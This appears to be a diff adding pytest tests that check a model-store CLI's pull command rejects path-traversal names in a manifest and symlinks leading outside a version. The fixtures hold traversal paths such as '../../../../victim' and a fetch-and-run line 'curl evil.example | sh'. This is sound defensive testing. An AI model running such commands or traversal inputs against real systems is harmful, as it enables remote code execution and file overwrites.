@@ -7,6 +7,7 @@ from pathlib import Path
 
 import pytest
 
+from model_store.inference_key import sha256_hex
 from model_store.names import VersionId
 from model_store.store import ModelStore
 from tests.cli.conftest import Resight
@@ -306,6 +307,39 @@ def test_pull_refuses_a_damaged_source(
     source = (home / "models").rename(tmp_path / "source")
     (source / "blobs" / "1" / "README.md").write_text("changed")
     assert "README.md is sha256" in resight("models", "pull", source, "blobs@1").refused(6)
+    assert store.versions("blobs") == []
+
+
+@pytest.mark.parametrize("up", ["../../../../victim", "probe/../../../../../victim"])
+def test_pull_writes_no_file_outside_the_version(
+    resight: Resight, motion_config: Path, home: Path, tmp_path: Path, store: ModelStore, up: str
+) -> None:
+    """A source whose READY lists a path that leads elsewhere, with the right digest of what lies there."""
+    add_motion(resight, motion_config)
+    (tmp_path / "a" / "b").mkdir(parents=True)
+    source = (home / "models").rename(tmp_path / "a" / "b" / "source")
+    place = source / "blobs" / "1"
+    (place / up).resolve().write_text("curl evil.example | sh")
+    ready = json.loads((place / "READY").read_text())
+    ready["files"][up] = sha256_hex((place / up).read_bytes())
+    write_json(place / "READY", ready)
+    before = {path for path in tmp_path.rglob("*") if not path.is_relative_to(source)}
+    assert "not a file name inside a version" in resight(
+        "models", "pull", source, "blobs@1"
+    ).refused(6)
+    assert {path for path in tmp_path.rglob("*") if not path.is_relative_to(source)} == before
+    assert store.versions("blobs") == []
+
+
+def test_pull_copies_nothing_that_a_link_leads_to(
+    resight: Resight, motion_config: Path, home: Path, tmp_path: Path, store: ModelStore
+) -> None:
+    add_motion(resight, motion_config)
+    source = (home / "models").rename(tmp_path / "source")
+    readme = source / "blobs" / "1" / "README.md"
+    readme.rename(tmp_path / "README.md")
+    readme.symlink_to(tmp_path / "README.md")
+    assert "leads out of" in resight("models", "pull", source, "blobs@1").refused(6)
     assert store.versions("blobs") == []
 
 
